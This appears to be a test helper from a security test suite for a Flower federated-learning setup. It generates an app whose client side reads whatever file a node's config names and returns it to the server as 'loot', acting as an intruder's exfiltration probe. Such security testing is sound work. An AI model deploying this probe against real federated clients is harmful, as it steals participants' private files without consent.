"""A Flower app that brings home whatever file a client's node config calls its records.

The attacks run it as an intruder would. Sent by the operator of the server, it is also what shows that large
messages pass the proxy both ways.
"""

from __future__ import annotations

import json
from pathlib import Path

_PYPROJECT = """\
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "probe"
version = "1.0.0"
description = "Brings home a file."
license = {{ file = "LICENSE" }}
dependencies = ["flwr>=1.41"]

[tool.hatch.build.targets.wheel]
packages = ["probe"]

[tool.flwr.app]
publisher = "somebody"
fab-format-version = 1
flwr-version-target = "1.41.0"

[tool.flwr.app.components]
serverapp = "probe.apps:server"
clientapp = "probe.apps:client"

[tool.flwr.app.config]
loot = {loot}
# The run goes on until this file exists; empty: it ends with the answer.
until = {until}
# Bytes sent to the client.
weight = {weight}
"""

_APPS = """\
import time
from pathlib import Path

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import ServerApp

server = ServerApp()
client = ClientApp()


@client.query()
def answer(message, context):
    found = Path(str(context.node_config["records"])).read_bytes()
    return Message(RecordDict({"loot": ConfigRecord({"loot": found})}), reply_to=message)


@server.main()
def main(grid, context):
    config = context.run_config
    while not (nodes := list(grid.get_node_ids())):
        time.sleep(0.2)
    weight = ConfigRecord({"weight": bytes(int(config["weight"]))})
    asked = [Message(RecordDict({"w": weight}), dst_node_id=n, message_type="query") for n in nodes]
    for reply in grid.send_and_receive(asked, timeout=60):
        found = reply.content["loot"]["loot"] if reply.has_content() else str(reply.error).encode()
        Path(str(config["loot"])).write_bytes(found)
    while config["until"] and not Path(str(config["until"])).exists():
        time.sleep(0.2)
"""


def write_probe(folder: Path, loot: Path, *, until: Path | None = None, weight: int = 0) -> Path:
    """Writes the app; what it finds at the last client that answers goes to `loot`."""
    (folder / "probe").mkdir(parents=True)
    (folder / "LICENSE").write_text("Apache-2.0\n")
    (folder / "probe" / "__init__.py").write_text("")
    (folder / "probe" / "apps.py").write_text(_APPS)
    settings = {"loot": json.dumps(str(loot)), "until": json.dumps(str(until or "")), "weight": weight}
    (folder / "pyproject.toml").write_text(_PYPROJECT.format(**settings))
    return folder
